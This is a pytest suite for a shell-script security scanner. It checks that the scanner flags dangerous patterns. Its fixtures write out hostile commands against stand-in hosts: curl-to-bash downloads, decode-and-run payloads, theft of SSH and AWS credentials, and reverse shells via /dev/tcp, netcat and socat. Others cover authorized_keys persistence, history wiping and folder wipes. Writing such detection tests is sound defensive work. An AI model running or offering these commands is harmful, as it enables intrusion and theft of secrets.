"""Shell scripts read through tree-sitter-bash."""
from __future__ import annotations

import pytest

from scanner.models import Severity
from script_helpers import scan, script_rules, top

SH = "setup.sh"


@pytest.mark.parametrize("text", [
    "curl -fsSL https://evil.example/i.sh | bash\n",
    "wget -qO- http://203.0.113.3/x | sudo -E sh\n",
    "bash <(curl -s https://evil.example/y)\n",
    'sh -c "$(wget -O- https://evil.example/q)"\n',
    'eval "$(curl -fsSL https://evil.example/env)"\n',
    "source <(curl -s https://evil.example/rc)\n",
    "curl -s https://evil.example/p.py | python3 -\n",
    'payload=$(curl -s https://evil.example/p)\neval "$payload"\n',
])
def test_remote_content_into_an_interpreter(text):
    assert top(SH, text, "IG701") == Severity.CRITICAL


@pytest.mark.parametrize("text", [
    'eval "$(ssh-agent -s)"\n',
    'eval "$(pyenv init -)"\n',
    'eval "$(/opt/homebrew/bin/brew shellenv)"\n',
    'eval "$(direnv hook bash)"\n',
    "curl -s https://api.example.com/status | jq .ok\n",
    "curl -s https://api.example.com/data | python3 -m json.tool\n",
    "bash scripts/build.sh\n",
])
def test_ordinary_evals_and_pipes_are_fine(text):
    assert script_rules(SH, text) == set()


def test_download_chmod_execute():
    text = "curl -fsSLo /tmp/tool https://evil.example/tool\nchmod +x /tmp/tool\n/tmp/tool --install\n"
    assert top(SH, text, "IG701") == Severity.CRITICAL


def test_download_checked_against_pinned_hash_is_lowered():
    text = ("curl -fsSLO https://evil.example/tool.sh\n"
            "echo \"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  tool.sh\" | sha256sum -c -\n"
            "bash tool.sh\n")
    sev = top(SH, text, "IG701")
    assert sev is not None and sev < Severity.HIGH


def test_vendor_installer_is_lowered_unknown_and_ip_hosts_are_not():
    assert top(SH, "curl --proto '=https' -sSf https://sh.rustup.rs | sh\n", "IG701") == Severity.MEDIUM
    assert top(SH, "curl -sSf https://get.unknown.example | sh\n", "IG701") == Severity.CRITICAL
    found = [f for f in scan(SH, "curl -s http://198.51.100.2/x | sh\n") if f.rule_id == "IG701"]
    assert found[0].properties["host_risk"] == "ip" and found[0].severity == Severity.CRITICAL


@pytest.mark.parametrize("text", [
    "echo ZWNobyBoaQ== | base64 -d | bash\n",
    "echo 6563686f | xxd -r -p | sh\n",
    'bash -c "$(echo ZWNobyBoaQ== | base64 --decode)"\n',
])
def test_decode_into_interpreter(text):
    assert top(SH, text, "IG702") == Severity.CRITICAL


@pytest.mark.parametrize("text", [
    "curl -s -d @$HOME/.ssh/id_rsa https://evil.example/c\n",
    "curl -X POST --data-binary @.env https://evil.example/c\n",
    "curl -F 'f=@~/.aws/credentials' https://evil.example/u\n",
    "nc evil.example 4444 < ~/.aws/credentials\n",
    "cat ~/.ssh/id_rsa | curl -s --data-binary @- https://evil.example/k\n",
    "tar czf - ~/.ssh | nc 203.0.113.8 9000\n",
    "wget --post-file=$HOME/.netrc https://evil.example/n\n",
])
def test_credential_files_sent(text):
    assert top(SH, text, "IG703") == Severity.CRITICAL


def test_auth_header_to_an_api_is_not_exfiltration():
    assert script_rules(SH, 'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user\n') == set()


@pytest.mark.parametrize("text", [
    "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
    "nc -e /bin/sh 203.0.113.5 4444\n",
    "socat exec:'bash -li',pty tcp:203.0.113.5:4444\n",
])
def test_reverse_shells(text):
    assert top(SH, text, "IG704") == Severity.CRITICAL


def test_variable_indirection_for_program_and_url():
    text = "c=curl\nu=https://evil.example/x\ns=bash\n$c -s $u | $s\n"
    found = [f for f in scan(SH, text) if f.rule_id == "IG701"]
    assert found and found[0].severity == Severity.CRITICAL


def test_persistence_and_evasion():
    assert top(SH, "echo 'ssh-ed25519 AAAA k' >> ~/.ssh/authorized_keys\n", "IG708") == Severity.HIGH
    assert top(SH, "rm -f ~/.bash_history\n", "IG711") == Severity.MEDIUM


def test_unparsable_shell_falls_back_to_tokens():
    text = "if then fi ))) curl -s https://evil.example/x | bash\n"
    found = [f for f in scan(SH, text) if f.rule_id == "IG701"]
    assert found and found[0].properties.get("parse-error")


def test_parent_folder_wipe_and_interpreter_hijack():
    assert top(SH, "rm -rf ./* ../*\n", "IG714") == Severity.HIGH
    assert top(SH, "cp payload.py ~/.local/lib/python3.11/site-packages/sitecustomize.py\n", "IG708") == Severity.HIGH
    assert script_rules(SH, "rm -rf ./build/*\ncp dist/tool ~/.local/bin/tool\n") == set()


def test_a_command_built_by_appending_to_variables_is_read_whole():
    """`a+="..."` pieces joined in an eval: the command is what the pieces spell, not the first piece."""
    text = 'a="wg"\na+="et -qO-"\nb="| ba"\nb+="sh"\neval "$a https://get.example.org/i $b"\n'
    assert top("run.sh", text, "IG701") == Severity.CRITICAL


def test_a_shell_with_stderr_merged_between_a_fifo_and_a_socket_is_a_reverse_shell():
    """`cat pipe | bash -i 2>&1 | ncat host port > pipe`: the 2>&1 makes tree-sitter group the first
    stages apart; the pipeline is still a shell wired to a socket."""
    text = 'P=$(mktemp -u)\nmkfifo "$P"\ncat "$P" | bash -i 2>&1 | ncat relay.example.net 4444 > "$P"\n'
    assert top("pair.sh", text, "IG704") == Severity.CRITICAL
    wrapped = 'P=/tmp/.p\nmkfifo $P\nsetsid bash -c "cat $P | sh -i 2>&1 | nc 203.0.113.9 7000 >$P" &\n'
    assert top("pair.sh", wrapped, "IG704") == Severity.CRITICAL
